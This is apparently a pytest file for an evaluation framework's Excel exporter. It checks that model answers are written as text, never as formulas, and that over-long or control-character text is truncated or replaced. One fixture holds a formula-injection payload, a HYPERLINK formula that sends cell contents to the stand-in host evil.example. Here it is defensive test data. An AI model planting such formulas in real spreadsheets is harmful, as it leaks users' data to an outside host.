"""Runs as Excel workbooks, read back by openpyxl."""

import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import example_runs
import pytest
from memory_store import MemoryStore

import proctor
from proctor import Sample, Task
from proctor.exports import table
from proctor_adapters.exports import xlsx

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
TEXTS = {
    "0": FORMULA,
    "1": "+1",
    "2": "x" * 40_000,
    "3": "a\x00b\x1b[31m",
    "4": "_x0041_",
    "5": "#N/A",
    "6": "\uffff12",
}


def cells(path: Path, sheet: str = "trials") -> list[dict[str, Any]]:
    import openpyxl

    head, *rows = openpyxl.load_workbook(path)[sheet].iter_rows()
    return [{str(name.value): cell for name, cell in zip(head, row, strict=True)} for row in rows]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / "run.xlsx"
    samples = [Sample.ask(id, id, target="x", tags={"cmd": "=1+1"}) for id in TEXTS]
    task = Task(name="hostile", samples=samples, scorers=["exact"])
    run = proctor.evaluate(task, agent=lambda question: TEXTS[question], store=":memory:")
    assert xlsx.write(run.record, run.store, path) == [path]
    return path


def test_no_text_of_a_model_is_a_formula(written: Path) -> None:
    by_sample = {row["sample"].value: row for row in cells(written)}
    for id in ("0", "1", "5"):
        assert (by_sample[id]["answer"].value, by_sample[id]["answer"].data_type) == (TEXTS[id], "s")
        assert by_sample[id]["answer"].quotePrefix == (id != "5")
    assert by_sample["0"]["tag.cmd"].quotePrefix
    with zipfile.ZipFile(written) as file:
        assert b"<f>" not in b"".join(file.read(name) for name in file.namelist())


def test_what_no_cell_can_hold_is_replaced_or_cut_with_a_mark(written: Path) -> None:
    by_sample = {row["sample"].value: row["answer"].value for row in cells(written)}
    assert by_sample["2"] == "x" * 32_763 + " […]"
    assert by_sample["3"] == "a␀b␛[31m"
    assert by_sample["6"] == "�12"
    assert len(xlsx.cell_text("😀" * 20_000).encode("utf-16-le")) <= 2 * 32_767


def test_numbers_are_numbers_and_missing_ones_are_empty(written: Path) -> None:
    row = cells(written)[0]
    assert (row["value"].value, row["attempt"].value, row["cost"].value) == (0, 0, None)
    assert isinstance(row["started"].value, datetime)


async def test_rows_beyond_a_sheet_are_in_the_next_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = MemoryStore()
    record, _ = await example_runs.small_run(store)
    expected = [row["sample"] for row in table.rows(record, store, "en")]
    monkeypatch.setattr(xlsx, "ROWS_OF_SHEET", 4)
    (path,) = xlsx.write(record, store, tmp_path / "run.xlsx")
    sheets = ("trials", "trials 2", "trials 3")
    import openpyxl

    assert openpyxl.load_workbook(path).sheetnames == [*sheets]
    assert [row["sample"].value for sheet in sheets for row in cells(path, sheet)] == expected


async def test_a_hostile_run_is_a_readable_workbook(tmp_path: Path) -> None:
    store = MemoryStore()
    record, _ = await example_runs.hostile_run(store)
    (path,) = xlsx.write(record, store, tmp_path / "run.xlsx")
    assert len(cells(path)) == len([*table.rows(record, store, "en")])
